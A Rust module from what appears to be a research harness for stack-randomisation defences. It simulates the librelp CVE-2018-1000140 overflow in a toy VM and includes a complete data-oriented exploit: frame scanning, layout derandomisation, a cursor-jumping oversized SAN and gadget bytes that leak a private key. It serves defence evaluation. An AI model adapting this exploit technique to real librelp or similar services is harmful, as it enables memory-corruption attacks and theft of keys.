//! The librelp case study (CVE-2018-1000140, paper §II-C and §V-C).
//!
//! `relpTcpChkPeerName()` accumulates X.509 subject-alt-names into a
//! fixed buffer with `snprintf`, trusting its *return value* (the
//! would-be length) to advance the write cursor. Once the cursor passes
//! the buffer size, the remaining-capacity computation goes negative —
//! as a `size_t`, enormous — and the next `snprintf` writes, unbounded,
//! at `allNames + iAllNames`.
//!
//! The exploit is **non-linear**: a single oversized SAN advances the
//! cursor far past the buffer *without writing* (the capped write is
//! truncated inside the buffer while the return value reflects the full
//! length), so the very next SAN lands bytes at an attacker-chosen
//! distance — skipping canaries and the Smokestack guard slot entirely.
//! The landed bytes program a DOP gadget block in the **caller**
//! (`relp_lstn_init`): a dispatcher counter plus copy-gadget selectors
//! that exfiltrate the private key through the error-reporting output.
//!
//! Defenses: every static scheme is derandomized by probing a prior run
//! of the same build; Smokestack on the insecure `pseudo` scheme is
//! derandomized by disclosing the PRNG state and predicting *both*
//! frames' permutations; Smokestack on AES/RDRAND leaves the attacker a
//! blind guess, which corrupts unintended slab bytes instead.

use smokestack_vm::{FnInput, Memory};

use crate::intel::{scan_stack, Knowledge};
use crate::{conclude, Attack, AttackOutcome, Build, CommitFlag};

/// The secret the attack exfiltrates.
pub const SECRET: &str = "SK-3141592653589793-SECRET";

const TAG: i64 = 54324593208393710;

/// The vulnerable service, scaled down from librelp (32 KB of SAN
/// accumulation becomes 256 bytes; the mechanics are identical).
pub const SOURCE: &str = r#"
    char private_key[32] = "SK-3141592653589793-SECRET";
    long dummy = 0;
    long leaked = 0;

    void relp_chk_peer_name(long tag) {
        char allNames[256];
        char szAltName[4096];
        long iAllNames = 0;
        long bFound = 0;
        while (bFound == 0) {
            long len = get_input(szAltName, 4095);
            if (len == 0) {
                bFound = 1;
            } else {
                szAltName[len] = 0;
                /* CVE-2018-1000140: remaining capacity goes negative. */
                iAllNames = iAllNames + snprintf_cat(
                    allNames + iAllNames,
                    256 - iAllNames,
                    "DNSname: %s; ",
                    szAltName);
            }
        }
    }

    void relp_lstn_init(long tag) {
        char ctl[8];
        long tbl[6];
        char out[64];
        long scratch = 0;
        ctl[0] = 1;
        ctl[1] = 0;
        ctl[2] = 0;
        ctl[3] = 0;
        tbl[0] = &dummy;
        tbl[1] = &private_key;
        tbl[2] = &out;
        tbl[3] = &leaked;
        tbl[4] = 0;
        tbl[5] = 0;
        while (ctl[0] > 0) {
            relp_chk_peer_name(tag + 1);
            if (ctl[1] == 1) {
                long *d = tbl[ctl[2]];
                long *s = tbl[ctl[3]];
                d[0] = s[0];
                d[1] = s[1];
                d[2] = s[2];
                d[3] = s[3];
            }
            ctl[1] = 0;
            ctl[0] = ctl[0] - 1;
            scratch = scratch + 1;
        }
        print_str(out);
    }

    int main() { relp_lstn_init(54324593208393710); return 0; }
"#;

/// The librelp DOP attack.
pub struct LibrelpAttack;

/// Where the first SAN must land: the live addresses of the callee's
/// `allNames` and the caller's `ctl` block, plus the harmful intervals
/// `[start, end)` the write must not touch.
struct Targets {
    all_names: u64,
    ctl: u64,
    forbidden: [(u64, u64); 2],
}

/// Locate both live frames by their tags, then place their slots from
/// what the attacker knows: under `pseudo` the two newest draws (callee,
/// then caller), under a secure scheme two guessed rows (callee first),
/// and for a static layout a probe of a prior run, made at this point of
/// the live run. `None` when a frame or a slot stays unknown.
fn targets(build: &Build, run_seed: u64, mem: &Memory) -> Option<Targets> {
    let caller = scan_stack(mem, TAG as u64, 2 << 20)? as i64;
    let callee = scan_stack(mem, (TAG + 1) as u64, 2 << 20)? as i64;
    let mut knowledge = Knowledge::pbox(build, run_seed, 0x11b, true)
        .unwrap_or_else(|| Knowledge::probed(build, run_seed ^ 0x5151, &[vec![]]));
    let callee_d = knowledge.deltas(
        Some(mem),
        0,
        ("relp_chk_peer_name", "tag"),
        &[("relp_chk_peer_name", "allNames")],
    )?;
    let caller_d = knowledge.deltas(
        Some(mem),
        1,
        ("relp_lstn_init", "tag"),
        &[
            ("relp_lstn_init", "ctl"),
            ("relp_lstn_init", "tbl"),
            ("relp_lstn_init", "out"),
        ],
    )?;
    let [ctl, tbl, out] = [0, 1, 2].map(|i| (caller + caller_d[i]) as u64);
    Some(Targets {
        all_names: (callee + callee_d[0]) as u64,
        ctl,
        forbidden: [(tbl + 8, tbl + 24), (out, out + 33)],
    })
}

impl Attack for LibrelpAttack {
    fn name(&self) -> &str {
        "librelp-cve-2018-1000140"
    }

    fn source(&self) -> &str {
        SOURCE
    }

    fn attempt(&self, build: &Build, run_seed: u64) -> AttackOutcome {
        let aborted = CommitFlag::new();
        let committed = CommitFlag::new();

        let mut vm = build.vm(run_seed);
        let adversary = FnInput(|mem: &mut Memory, req, _max| {
            if aborted.is_armed() {
                return vec![];
            }
            match req {
                0 => {
                    // First SAN: decide, then jump the cursor.
                    let Some(k) = targets(build, run_seed, mem) else {
                        aborted.arm();
                        return vec![];
                    };
                    // The targeted write spans [ctl-9, ctl+7): prefix
                    // below ctl, 4 payload bytes, "; \0" inside ctl.
                    let write_lo = k.ctl - 9;
                    let write_hi = k.ctl + 7;
                    let harmful = k
                        .forbidden
                        .iter()
                        .any(|&(lo, hi)| write_lo < hi && lo < write_hi);
                    let dist = k.ctl as i64 - 9 - k.all_names as i64;
                    // One capped jump: increment = 11 + len, len <= 4095.
                    let len = dist - 11;
                    if harmful || !(1..=4095).contains(&len) {
                        aborted.arm();
                        return vec![];
                    }
                    // Oversized SAN: truncated inside allNames, but the
                    // returned would-be length teleports the cursor.
                    vec![b'A'; len as usize]
                }
                1 => {
                    // Second SAN lands at ctl: [nsock=2][op=1][dst=2][src=1].
                    committed.arm();
                    vec![2, 1, 2, 1]
                }
                _ => vec![], // end SAN list; later sessions benign
            }
        });
        let out = vm.run_main(adversary);
        let goal = out.output_text().contains(SECRET);
        conclude(
            &out,
            &committed,
            goal,
            "private key exfiltrated via error output",
        )
        .into_outcome()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::seeded_trial;
    use smokestack_defenses::DefenseKind;

    #[test]
    fn benign_run_leaks_nothing() {
        let build = Build::new(SOURCE, DefenseKind::None, 1);
        let mut vm = build.vm(7);
        let out = vm.run_main(smokestack_vm::ScriptedInput::new(vec![vec![]]));
        assert!(!out.output_text().contains(SECRET));
        assert!(out.exit.is_clean());
    }

    #[test]
    fn static_permutation_bypassed_on_vulnerable_builds() {
        // The jump distance is bounded by the SAN buffer size, so a
        // static permutation is a per-build coin flip: builds where
        // allNames landed above szAltName are fully exploitable, and the
        // attacker knows which from a single disclosure probe. A
        // campaign cell deploys one build, so this verdict needs one
        // trial on each of several builds.
        let bypassed = (0..8u64)
            .filter(|b| {
                seeded_trial(&LibrelpAttack, DefenseKind::StaticPermutation, 40 + b, 0).is_success()
            })
            .count();
        assert!(bypassed >= 1, "no vulnerable static-permutation build in 8");
    }
}
